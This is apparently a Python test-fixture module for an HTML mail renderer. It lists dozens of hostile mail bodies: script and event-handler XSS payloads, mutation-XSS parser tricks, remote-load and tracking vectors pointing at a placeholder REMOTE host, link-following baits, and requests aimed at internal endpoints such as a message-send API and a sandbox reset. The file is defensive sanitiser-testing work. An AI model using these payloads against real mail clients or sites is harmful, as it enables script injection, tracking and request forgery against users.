"""
Mails that want out: each would run a script, load something, or lead somewhere, if it could.

``REMOTE`` stands for a server that is none of ours; who gets through to it, or to ``alert`` or the
console, has got out.
"""

from __future__ import annotations

CANARY = "alert('out');console.log('out');document.title='out';fetch('REMOTE/script')"

SCRIPTS = [
    f"<script>{CANARY}</script>",
    "<script src='REMOTE/a.js'></script>",
    "<script type=module>import 'REMOTE/m.js'</script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["REMOTE/spec"]}]}</script>',
    '<script type=importmap>{"imports":{"a":"REMOTE/i.js"}}</script>',
    f'<img src=x onerror="{CANARY}">',
    f'<body onload="{CANARY}" onfocus="{CANARY}">',
    f'<svg onload="{CANARY}"></svg>',
    f"<svg><script>{CANARY}</script></svg>",
    f'<svg><animate onbegin="{CANARY}" attributeName=x dur=1s></svg>',
    f'<svg><a href="javascript:{CANARY}"><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x "
    f'onerror="{CANARY}"></style></mglyph></table></mtext></math>',
    f'<iframe srcdoc="&lt;script&gt;{CANARY}&lt;/script&gt;"></iframe>',
    f'<iframe src="javascript:{CANARY}"></iframe>',
    f'<iframe src="data:text/html,<script>{CANARY}</script>"></iframe>',
    f'<object data="data:text/html,<script>{CANARY}</script>"></object>',
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    f"onload='{CANARY}'/>\">",
    f'<details open ontoggle="{CANARY}"><summary>x</summary></details>',
    f'<input autofocus onfocus="{CANARY}">',
    f'<video><source onerror="{CANARY}"></video>',
    f'<marquee onstart="{CANARY}">x</marquee>',
    f'<div style="animation:x 1s" onanimationstart="{CANARY}"></div><style>@keyframes '
    f"x{{}}</style>",
    f'<a id=bait href="javascript:{CANARY}">x</a>',
    f'<meta http-equiv=refresh content="0;url=javascript:{CANARY}">',
    f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{CANARY}</script>">',
    f'<form action="javascript:{CANARY}"><button id=bait>x</button></form>',
    f'<isindex action="javascript:{CANARY}" type=image>',
    f"<style>x{{behavior:url(REMOTE/x.htc);-moz-binding:url(REMOTE/x.xml)}}</style><x "
    f'onclick="{CANARY}">x</x>',
    f'<noscript><p title="</noscript><img src=x onerror={CANARY}>"></noscript>',
    f'<!--><img src=x onerror="{CANARY}">-->',
    f"<template shadowrootmode=open><script>{CANARY}</script></template>",
    f'<xmp><p title="</xmp><svg onload={CANARY}>"></xmp>',
    f"</body></html><script>{CANARY}</script>",
    f'"><script>{CANARY}</script>',
    "<meta charset=utf-7>+ADw-script+AD4-alert('out')+ADw-/script+AD4-",
]

LOADS = [
    "<img src='REMOTE/img.png'>",
    "<img src='//HOST/protocol-relative.png'>",
    '<IMG SRC="REMOTE/upper.png">',
    "<img srcset='REMOTE/1x.png 1x, REMOTE/2x.png 2x'>",
    "<picture><source srcset='REMOTE/source.png'><img></picture>",
    "<body background='REMOTE/background.png'>",
    "<table background='REMOTE/table.png'><tr><td background='REMOTE/td.png'>x</table>",
    "<div style=\"background:url('REMOTE/inline.png')\">x</div>",
    "<style>body{background:url(REMOTE/css.png)}</style>",
    "<style>@import 'REMOTE/import.css';</style>",
    "<style>@import url(REMOTE/import2.css);</style>",
    "<style>@font-face{font-family:f;src:url(REMOTE/font.woff)}*{font-family:f}</style>x",
    "<style>li{list-style:url(REMOTE/list.png)}</style><li>x",
    "<style>p::before{content:url(REMOTE/content.png)}</style><p>x",
    "<style>p{cursor:url(REMOTE/cursor.cur),auto;border-image:url(REMOTE/border.png) "
    "1;mask:url(REMOTE/mask.svg)}</style><p>x",
    "<style>p{filter:url(REMOTE/filter.svg#f);shape-outside:url(REMOTE/shape.png);float:left}</style><p>x",
    "<style>p{background:image-set('REMOTE/set.png' 1x)}</style><p>x",
    "<link rel=stylesheet href='REMOTE/style.css'>",
    "<LINK REL=preload AS=image HREF='REMOTE/preload.png'>",
    "<link rel=prefetch href='REMOTE/prefetch'>",
    "<link rel=preconnect href='REMOTE'>",
    "<link\nrel=preconnect href='REMOTE' crossorigin>",
    "<link/rel=dns-prefetch href='REMOTE'>",
    "<svg><foreignObject><link rel=preconnect href='REMOTE'></foreignObject></svg>",
    "<link rel=modulepreload href='REMOTE/module.js'>",
    "<link rel=manifest href='REMOTE/manifest.json'>",
    "<link rel=icon href='REMOTE/icon.png'>",
    "<link rel=prerender href='REMOTE/prerender'>",
    "<video src='REMOTE/video.mp4' autoplay></video>",
    "<video poster='REMOTE/poster.png'></video>",
    "<audio src='REMOTE/audio.mp3' autoplay></audio>",
    "<video><track default src='REMOTE/track.vtt'></video>",
    "<iframe src='REMOTE/frame'></iframe>",
    "<iframe srcdoc=\"<img src='REMOTE/srcdoc.png'>\"></iframe>",
    "<frameset><frame src='REMOTE/frameset'></frameset>",
    "<object data='REMOTE/object'></object>",
    "<object type='image/svg+xml' data='REMOTE/object.svg'></object>",
    "<embed src='REMOTE/embed'>",
    "<applet code='REMOTE/applet' archive='REMOTE/applet.jar'></applet>",
    "<input type=image src='REMOTE/input.png'>",
    "<svg><image href='REMOTE/svg.png'></image></svg>",
    "<svg><use href='REMOTE/use.svg#x'></use></svg>",
    "<svg><filter id=f><feImage href='REMOTE/fe.png'/></filter><rect width=9 height=9 "
    "filter='url(#f)'/></svg>",
    "<svg><style>@import 'REMOTE/svg.css';</style></svg>",
    "<meta http-equiv=refresh content='0;url=REMOTE/refresh'>",
    "<meta http-equiv=refresh content='0;url=/v1.0/messages/sendTemplateHTTPGet?to=a@example.com'>",
    "<base href='REMOTE/'><img src='based.png'>",
    "<html manifest='REMOTE/manifest'>",
    "<svg><a id=bait><set attributeName=href to='REMOTE/svg'/><animate attributeName='&#116;arget' "
    "values=_self dur=9s /><text y=20>x</text></a></svg>",
    "<form action='REMOTE/form' method=post><button id=bait>x</button></form>",
    "<form action='/_sandbox/reset' method=post><button id=bait>x</button></form>",
    "<button id=bait formaction='REMOTE/formaction' form=f>x</button><form id=f></form>",
    "<img src='cid:logo' lowsrc='REMOTE/low.png' dynsrc='REMOTE/dyn.png'>",
    "<img src='cid:../../../../v1.0/messages/sendTemplateHTTPGet'>",
    "<img src='/_sandbox/health'>",
    "<bgsound src='REMOTE/bgsound'>",
    "<portal src='REMOTE/portal'></portal><fencedframe src='REMOTE/fenced'></fencedframe>",
    "<image src='REMOTE/image.png'>",
    "<x style='background:u\\72l(REMOTE/escape.png)'>x</x>",
    "<style>@namespace url(REMOTE/namespace);@document url(REMOTE/doc){}</style>",
    "<img src='REMOTE/lazy.png' loading=eager fetchpriority=high>",
    "<script>document.location='REMOTE/location'</script>",
]

LINKS = [
    "<a id=bait href='REMOTE/link' ping='REMOTE/ping'>x</a>",
    "<a id=bait target=_self href='REMOTE/self'>x</a>",
    "<a id=bait target=_top href='REMOTE/top'>x</a>",
    "<a id=bait target=_blank href='REMOTE/blank' download>x</a>",
    "<map name=m><area id=bait shape=default href='REMOTE/area'></map><img usemap=#m width=99 "
    "height=99 src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='>",
    "<svg><a id=bait href='REMOTE/svg'><rect width=99 height=99 /></a></svg>",
    "<svg><a id=bait xlink:href='REMOTE/svg' target=_top><rect width=99 height=99 /></a></svg>",
    "<svg><a id=bait href='REMOTE/svg'><rect width=99 height=99 /><set attributeName=target "
    "to=_self /></a></svg>",
    "<a id=bait rel=opener target=frame href='REMOTE/opener'>x</a>",
    "<base target=_self><a/target='_top'/rel='opener'/id=bait href='REMOTE/slash'>x</a>",
    "<a title='href=#x' id=bait href='REMOTE/title' href=#x>x</a>",
    "<form id=f target=_self></form><a id=bait form=f href='REMOTE/in-form'>x</a>",
]
"""Links that are followed: in a tab of their own, which learns nothing and can do nothing here."""

TEXTS = [
    f'<img src=x onerror="{CANARY}">',
    f"<script>{CANARY}</script>",
    f'"><svg onload={CANARY}>',
    "{{ 7 * 7 }}{% raw %}",
    "</title></textarea><script>alert('out')</script>",
    "\u202egnp.exe\u202c \u0000".replace("\u0000", ""),
]
"""For every place of a mail that is text: none of it may become HTML."""
